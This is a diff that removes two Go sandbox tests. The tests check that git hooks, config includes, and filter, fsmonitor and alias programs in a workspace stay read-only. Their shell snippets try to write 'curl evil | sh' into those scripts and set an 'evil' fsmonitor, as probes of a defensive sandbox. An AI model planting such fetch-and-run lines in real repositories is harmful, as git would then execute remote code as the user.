@@ -264,62 +264,6 @@ echo x > .husky/notes && echo rest-ok`)
 	})
 }
 
-// The repository's config is read as git reads it: a comment ending in a
-// backslash does not swallow the next line, a quoted subsection may hold
-// "]" with the include on the header's line, and whitespace inside a
-// value is what git makes of it (a space in older git, kept as written in
-// newer releases). A reader that missed any of these left what git includes or
-// runs writable.
-func TestWorkspaceGitConfigReadAsGit(t *testing.T) {
-	eachUser(t, func(t *testing.T, u user) {
-		ws := filepath.Join(u.visibleDir(t), "proj")
-		u.mkdirs(t, filepath.Join(ws, ".git"), filepath.Join(ws, "my hooks"))
-		u.writeFile(t, filepath.Join(ws, ".git", "config"), "[core]\n\teditor = vi ; an old habit \\\n[include] path = ../local.gitconfig\n"+
-			"[includeIf \"onbranch:x]\"] path = ../branch.gitconfig\n[core]\n\thooksPath = my\thooks\n", 0o644)
-		u.writeFile(t, filepath.Join(ws, "local.gitconfig"), "[alias]\n\tst = status\n", 0o644)
-		u.writeFile(t, filepath.Join(ws, "branch.gitconfig"), "[alias]\n\tco = checkout\n", 0o644)
-		r := u.sh(t, &runOpts{dir: ws}, nil, `
-(echo '[core] fsmonitor = evil' >> local.gitconfig) 2>/dev/null && echo LOCAL-WRITTEN
-(echo '[core] fsmonitor = evil' >> branch.gitconfig) 2>/dev/null && echo BRANCH-WRITTEN
-(echo 'curl evil | sh' > 'my hooks/pre-commit') 2>/dev/null && echo HOOK-WRITTEN
-echo x > other.txt && echo rest-ok`)
-		expectCode(t, r, 0)
-		if strings.Contains(r.stdout, "WRITTEN") || !strings.Contains(r.stdout, "rest-ok") {
-			t.Fatalf("stdout %q stderr %q", r.stdout, r.stderr)
-		}
-	})
-}
-
-// A program the repository's config has git run (a filter, an fsmonitor
-// hook, a shell alias) that lies in the workspace is read-only inside,
-// and one that is missing cannot be made: git would run it as the user at
-// the next checkout, status or alias. Programs git finds in PATH, and the
-// rest of the directory, stay as they are.
-func TestWorkspaceGitCommandsProtected(t *testing.T) {
-	eachUser(t, func(t *testing.T, u user) {
-		ws := filepath.Join(u.visibleDir(t), "proj")
-		u.mkdirs(t, filepath.Join(ws, ".git"), filepath.Join(ws, "tools"))
-		u.writeFile(t, filepath.Join(ws, ".git", "config"), "[filter \"crypt\"]\n\tsmudge = ./tools/crypt --smudge\n\tclean = git-crypt clean\n"+
-			"[core]\n\tfsmonitor = .fsmon/monitor\n[alias]\n\tlint = \"!FOO=1 'tools/lint it.sh' --all\"\n", 0o644)
-		u.writeFile(t, filepath.Join(ws, "tools", "crypt"), "#!/bin/sh\n", 0o755)
-		u.writeFile(t, filepath.Join(ws, "tools", "lint it.sh"), "#!/bin/sh\n", 0o755)
-		r := u.sh(t, &runOpts{dir: ws}, nil, `
-(echo 'curl evil | sh' >> tools/crypt) 2>/dev/null && echo FILTER-WRITTEN
-(echo 'curl evil | sh' >> 'tools/lint it.sh') 2>/dev/null && echo ALIAS-WRITTEN
-(mkdir -p .fsmon && echo 'curl evil | sh' > .fsmon/monitor) 2>/dev/null && echo FSMONITOR-WRITTEN
-echo x > tools/notes.txt && echo rest-ok`)
-		expectCode(t, r, 0)
-		if strings.Contains(r.stdout, "WRITTEN") || !strings.Contains(r.stdout, "rest-ok") {
-			t.Fatalf("stdout %q stderr %q", r.stdout, r.stderr)
-		}
-		for _, p := range []string{".fsmon"} {
-			if exists(filepath.Join(ws, p)) {
-				t.Errorf("placeholder %s left after the run", p)
-			}
-		}
-	})
-}
-
 // An earlier sandbox that fills the workspace with directories, sorted
 // before a nested repository and a .env, cannot push them past the walk's
 // bound: the next run stops with an error instead of leaving the
